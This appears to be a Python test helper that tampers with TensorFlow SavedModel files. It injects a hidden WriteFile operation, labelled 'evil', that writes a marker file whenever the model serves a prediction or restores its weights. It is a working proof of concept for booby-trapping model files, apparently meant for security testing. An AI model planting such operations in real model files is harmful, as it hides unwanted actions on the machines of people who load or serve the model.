"""SavedModels changed by someone who knows how they are made."""

import itertools
from pathlib import Path

import tensorflow as tf
from tensorflow.core.protobuf import saved_model_pb2

FILE = "saved_model.pb"


def read(directory):
    return saved_model_pb2.SavedModel.FromString((Path(directory) / FILE).read_bytes())


def write(directory, saved):
    (Path(directory) / FILE).write_bytes(saved.SerializeToString())


def change(directory, alter):
    """Alter the SavedModel's only MetaGraphDef in place."""
    saved = read(directory)
    alter(saved.meta_graphs[0])
    write(directory, saved)


def serve(meta):
    """The FunctionDef that computes the probabilities."""
    return next(one for one in meta.graph_def.library.function if one.signature.name.startswith("__inference_serve_"))


def saver(meta, word):
    return next(one for one in meta.graph_def.library.function if f"traced_{word}" in one.signature.name)


def nodes(meta):
    functions = meta.graph_def.library.function
    return itertools.chain(meta.graph_def.node, *(one.node_def for one in functions))


def constant(target, name, value):
    node = target.add(name=name, op="Const")
    tensor = tf.make_tensor_proto(value)
    node.attr["dtype"].type = tensor.dtype
    node.attr["value"].tensor.CopyFrom(tensor)
    return name


def write_file(meta, path):
    """Write a file whenever a prediction is made: the probabilities wait for it."""
    function = serve(meta)
    constant(function.node_def, "evil/name", str(path).encode())
    constant(function.node_def, "evil/content", b"was here")
    function.node_def.add(name="evil", op="WriteFile", input=["evil/name:output:0", "evil/content:output:0"])
    function.control_ret["evil"] = "evil"
    function.signature.control_output.append("evil")


def write_file_when_loaded(meta, path):
    """Write a file when the weights are restored: in the main graph, and the restore waits for it."""
    constant(meta.graph_def.node, "evil/name", str(path).encode())
    constant(meta.graph_def.node, "evil/content", b"was here")
    meta.graph_def.node.add(name="evil", op="WriteFile", input=["evil/name", "evil/content"])
    restore = next(node for node in meta.graph_def.node if node.name == meta.saver_def.restore_op_name)
    restore.input.append("^evil")
